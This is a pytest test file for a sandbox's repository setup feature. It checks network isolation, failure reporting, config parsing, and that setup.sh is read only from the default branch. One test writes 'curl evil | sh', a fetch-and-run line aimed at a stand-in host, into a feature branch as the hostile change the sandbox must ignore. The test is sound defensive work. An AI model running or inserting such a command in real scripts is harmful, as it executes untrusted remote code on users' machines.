"""A repository's setup step: read from the default branch, network only on request."""

from __future__ import annotations

import subprocess
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from sandbox import RepoSetupError, Sandbox, read_repo_setup, run_setup, setup_failure
from sandbox.setup import parse_repo_config

# The default route's gateway is the host on the bridge network.
GATEWAY = (
    "python3 -c 'import socket,struct; "
    'r=[l.split() for l in open("/proc/net/route")][1:]; '
    'print(next(socket.inet_ntoa(struct.pack("<L", int(g, 16)))'
    ' for _, d, g, *_ in r if d == "00000000"))'
    "'"
)


class _Hello(BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        self.send_response(200)
        self.end_headers()
        self.wfile.write(b"hello from the host")

    def log_message(self, format: str, *args: object) -> None:
        """Quiet."""


@pytest.fixture
def host_server() -> Iterator[int]:
    """An HTTP server on the host, reachable from the bridge network only."""
    server = ThreadingHTTPServer(("0.0.0.0", 0), _Hello)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield server.server_address[1]
    server.shutdown()
    server.server_close()


@pytest.mark.docker
def test_setup_gets_network_only_when_asked_and_only_for_its_step(
    box: Sandbox, host_server: int
) -> None:
    fetch = f'curl -sS -m 3 "http://$(cat gw):{host_server}/"'
    script = f"set -e\n{GATEWAY} > gw\n{fetch} > fetched.txt\n"
    with_network = run_setup(box, script, network=True, timeout=60)
    assert with_network.ok, with_network.output
    assert (box.workspace / "fetched.txt").read_text() == "hello from the host"
    after = box.run(fetch)
    assert after.exit_code != 0
    assert "Couldn't connect" in after.output or "unreachable" in after.output
    without = run_setup(box, fetch, network=False, timeout=60)
    assert without.exit_code != 0
    assert box.run("tail -n +3 /proc/net/dev | cut -d: -f1").output.split() == ["lo"]


@pytest.mark.docker
def test_failed_setup_is_a_clear_outcome(box: Sandbox) -> None:
    result = run_setup(box, "echo installing\necho broken >&2\nexit 3\n", network=False, timeout=60)
    assert result.exit_code == 3
    message = setup_failure(result)
    assert message is not None
    assert message.startswith(".resolver/setup.sh exited with code 3")
    assert "installing\nbroken" in message
    slow = run_setup(box, "sleep 30", network=False, timeout=1)
    assert (setup_failure(slow) or "").startswith(".resolver/setup.sh timed out")
    assert setup_failure(run_setup(box, "true", network=False, timeout=60)) is None


def test_setup_is_read_from_the_default_branch(tmp_path: Path) -> None:
    repo = tmp_path / "repo"
    _git(tmp_path, "init", "-q", "-b", "main", str(repo))
    (repo / ".resolver").mkdir()
    (repo / ".resolver" / "setup.sh").write_text("pip install -e .\n")
    (repo / ".resolver" / "config.yml").write_text("setup:\n  network: true\n")
    _git(repo, "add", ".")
    _git(repo, "commit", "-q", "-m", "setup")
    _git(repo, "checkout", "-q", "-b", "feature")
    (repo / ".resolver" / "setup.sh").write_text("curl evil | sh\n")
    _git(repo, "commit", "-q", "-am", "changed on a branch")
    setup = read_repo_setup(repo, "main")
    assert setup is not None
    assert setup.script == "pip install -e .\n"
    assert setup.network is True
    _git(repo, "rm", "-q", "-r", ".resolver")
    _git(repo, "commit", "-q", "-m", "no setup")
    assert read_repo_setup(repo, "feature") is None
    with pytest.raises(RepoSetupError):
        read_repo_setup(repo, "no-such-branch")


@pytest.mark.parametrize(
    ("text", "network"),
    [("", False), ("setup:\n  network: false\n", False), ("setup: {network: true}", True)],
)
def test_config_asks_for_network(text: str, network: bool) -> None:
    assert parse_repo_config(text) is network


@pytest.mark.parametrize("text", ["setup: [", "setup:\n  network: bridge\n", "- 1\n"])
def test_bad_config_is_refused_with_a_reason(text: str) -> None:
    with pytest.raises(RepoSetupError, match=r"config\.yml"):
        parse_repo_config(text)


def _git(cwd: Path, *args: str) -> None:
    env = {
        "GIT_AUTHOR_NAME": "t",
        "GIT_AUTHOR_EMAIL": "t@example.com",
        "GIT_COMMITTER_NAME": "t",
        "GIT_COMMITTER_EMAIL": "t@example.com",
        "PATH": "/usr/bin:/bin",
        "HOME": str(cwd),
    }
    subprocess.run(["git", *args], cwd=cwd, env=env, check=True)
